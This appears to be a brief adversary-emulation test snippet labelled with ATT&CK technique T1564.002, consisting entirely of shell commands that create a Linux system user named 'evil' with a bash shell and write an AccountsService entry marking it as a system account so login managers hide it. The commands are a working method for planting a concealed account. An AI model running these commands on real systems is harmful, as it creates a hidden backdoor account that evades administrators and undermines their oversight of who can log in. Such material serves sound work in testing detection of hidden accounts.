# title: A user whom login managers do not show
# technique: T1564.002

mkdir -p /var/lib/AccountsService/users
printf '[User]\nSystemAccount=true\n' >/var/lib/AccountsService/users/evil
useradd -r -M -s /bin/bash -u 499 evil
